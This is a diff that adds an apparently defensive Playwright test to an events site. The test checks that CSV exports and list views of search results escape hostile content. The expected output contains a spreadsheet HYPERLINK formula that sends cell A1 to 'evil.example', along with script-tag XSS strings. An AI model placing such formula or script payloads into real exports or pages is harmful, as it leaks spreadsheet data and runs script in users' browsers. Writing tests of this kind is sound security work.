@@ -220,3 +220,24 @@ test('feeds are XML, and what they say is text to whatever shows it as HTML', as
 })
 
 const spaced = (text: string) => text.replace(/\s+/g, ' ')
+
+test('what is saved and listed of a search is text, too', async () => {
+  const { page, complaints } = await site.open('search/')
+  await page.getByRole('button', { name: 'Save or print these events' }).click()
+  const ways = page.locator('[data-take-panel]').getByRole('button')
+  const [download] = await Promise.all([
+    page.waitForEvent('download'),
+    ways.filter({ hasText: /^CSV/ }).click(),
+  ])
+  expect(download.suggestedFilename()).toMatch(/^title-script-alert-archive-script-\d+-events\.csv$/)
+  expect(readFileSync(await download.path(), 'utf8')).toContain(
+    `,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`,
+  )
+  await ways.filter({ hasText: /^List/ }).click()
+  const list = page.locator('.taken-list')
+  await list.waitFor()
+  expect(await list.textContent()).toContain(`<script>alert('title')</script> opens & closes`)
+  expect(await list.textContent()).toContain(`</title><script>alert('source')</script>`)
+  expect(await page.evaluate(strangers)).toEqual([])
+  expect(complaints).toEqual([])
+})
